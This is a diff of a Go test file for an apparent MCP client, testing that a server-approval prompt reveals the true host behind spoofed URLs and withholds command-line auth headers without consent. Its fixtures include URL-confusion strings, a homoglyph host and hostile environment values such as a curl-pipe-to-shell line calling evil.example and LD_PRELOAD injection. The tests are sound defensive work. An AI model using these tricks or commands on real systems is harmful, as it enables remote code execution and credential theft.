@@ -2,6 +2,7 @@ package main
 
 import (
 	"encoding/json"
+	"errors"
 	"io"
 	"net/http"
 	"net/http/httptest"
@@ -254,7 +255,8 @@ func TestURLFromFile(t *testing.T) {
 		`"plain":{"type":"http","url":"` + web.URL + `?k=t0ken","headers":{"X-One":"Bearer t0ken","x-two":"mine"}}}}`})
 	tr := &trial{config: dir, typed: "y\n"}
 	tr.with(dial).run("-trace", "call", "sum", "w", "-header", "X-Two: mine")
-	shown := filepath.Join(dir, ".mcp.json") + " wants to use a server over HTTP, as \"w\":\n  URL: " + web.URL + "\n  It is sent from your environment: A_TOKEN\n"
+	shown := filepath.Join(dir, ".mcp.json") + " wants to use a server over HTTP, as \"w\":\n  URL: " + web.URL + "\n  host: " + strings.TrimPrefix(web.URL, "http://") +
+		"\n  It is sent from your environment: A_TOKEN\n  It is sent from your command line: X-Two\n"
 	if got := tr.screen.String(); tr.code != exitOK || !strings.HasPrefix(got, shown) {
 		t.Errorf("exit code %d, shown:\n%s\nwant:\n%s", tr.code, got, shown)
 	}
@@ -269,10 +271,73 @@ func TestURLFromFile(t *testing.T) {
 	}
 }
 
+// The question about a URL shows the host that it leads to, however it is written.
+func TestURLShown(t *testing.T) {
+	t.Setenv("A_PATH", "/x")
+	for _, c := range []struct{ url, shown, host string }{
+		{"https://h.example/mcp", "https://h.example/mcp", "h.example"},
+		{"https://me:pw@h.example/mcp?key=1", "https://h.example/mcp", "h.example"},
+		{"https://evil.example#@h.example/mcp", "https://evil.example", "evil.example"},
+		{"https://evil.example?@h.example/mcp", "https://evil.example", "evil.example"},
+		{"https://evil.example${A_PATH}@h.example/mcp", "https://h.example/mcp", "evil.example"},
+		{"https://${NOT_SET_AT_ALL:-evil.example#}@h.example/", "https://${NOT_SET_AT_ALL:-evil.example", "evil.example"},
+		{"https://h\u0430.example/", "https://h\u0430.example/", `h\u{430}.example`},
+	} {
+		s := &namedServer{File: "/f", Name: "n", URL: c.url, Headers: map[string]string{"X": "${A_PATH}"}}
+		_, err := s.online(&http.Header{})
+		must(t, err)
+		if got := s.shown()[1:3]; !slices.Equal(got, []string{"  URL: " + c.shown, "  host: " + c.host}) {
+			t.Errorf("%s: %q, want %s and %s", c.url, got, c.shown, c.host)
+		}
+	}
+}
+
+// A file that a folder happens to have does not get what the command line sends to a server
+// of that name, unless the person agrees.
+func TestHeaderToURLFromFile(t *testing.T) {
+	const url = "https://evil.example/mcp"
+	dir := inFolder(t, map[string]string{".mcp.json": `{"mcpServers":{"w":{"url":"` + url + `"}}}`})
+	reached := 0
+	run := func(typed string, line ...string) *trial {
+		tr := (&trial{config: dir, typed: typed}).with(func(*program, []string) (mcp.Transport, error) {
+			reached++
+			return nil, errors.New("nobody is there")
+		})
+		return tr.run(append([]string{"-q", "tools", "w"}, line...)...)
+	}
+	run("").is(t, exitConnection, "", "mcp-client: nobody is there\n")
+	run("", "-yes", "-header", "Authorization: Bearer t0ken").is(t, exitConnection, "", "mcp-client: server \"w\" of "+filepath.Join(dir, ".mcp.json")+
+		" is not used, since nobody has allowed it, and there is no terminal to ask at: run this once at a terminal, or name the command or URL itself\n")
+	if reached != 1 {
+		t.Errorf("the server was reached %d times, want once", reached)
+	}
+	tr := run("y\n", "-header", "Authorization: Bearer t0ken")
+	want := filepath.Join(dir, ".mcp.json") + " wants to use a server over HTTP, as \"w\":\n  URL: " + url + "\n  host: evil.example\n" +
+		"  It is sent from your command line: Authorization\nAllow it, now and later? y yes, d no: "
+	if got := tr.screen.String(); got != want || reached != 2 {
+		t.Errorf("reached %d times, shown:\n%s\nwant:\n%s", reached, got, want)
+	}
+}
+
+// What a URL of a file takes from the environment is not shown.
+func TestURLFromFileNoted(t *testing.T) {
+	t.Setenv("A_TOKEN", "t0ken")
+	dir := inFolder(t, map[string]string{".mcp.json": `{"mcpServers":{"w":{"url":"https://h.example/${A_TOKEN}/mcp"}}}`})
+	tr := (&trial{config: dir, typed: "y\n"}).with(func(p *program, target []string) (mcp.Transport, error) {
+		if _, err := p.httpTransport(target[0]); err != nil {
+			return nil, err
+		}
+		return nil, errors.New("nobody is there")
+	})
+	tr.run("tools", "w").is(t, exitConnection, "", "connecting to: https://h.example/${A_TOKEN}/mcp\nmcp-client: nobody is there\n")
+}
+
 func TestSecretEnvironment(t *testing.T) {
 	for text, want := range map[string]bool{
 		"API_KEY=x": true, "token=x": true, "DB_PASS=x": true, "MY_PASSWORD=x": true, "ID=0123456789abcdefghij": true, "URL=postgres://u:p@h/x": true,
 		"A=Bearer": false, "GIT_ASKPASS=/bin/evil": false, "PATH=/usr/local/bin/that/is/long": false, "NODE_OPTIONS=--require ./evil.js with more": false,
+		"NODE_OPTIONS=--require=evil-module.js": false, "LD_PRELOAD=lib-of-somebody-else.so": false, "BASH_ENV=x://a@b": false,
+		"DEFAULT=$(curl https://a@evil.example | sh)": false, "MIRROR=https://token@h.example/": true,
 		"API_KEY=${KEY}": false, "API_KEY=${KEY:-x}": false, "API_KEY=x${KEY}": true, "KEY=": false,
 	} {
 		name, value, _ := strings.Cut(text, "=")
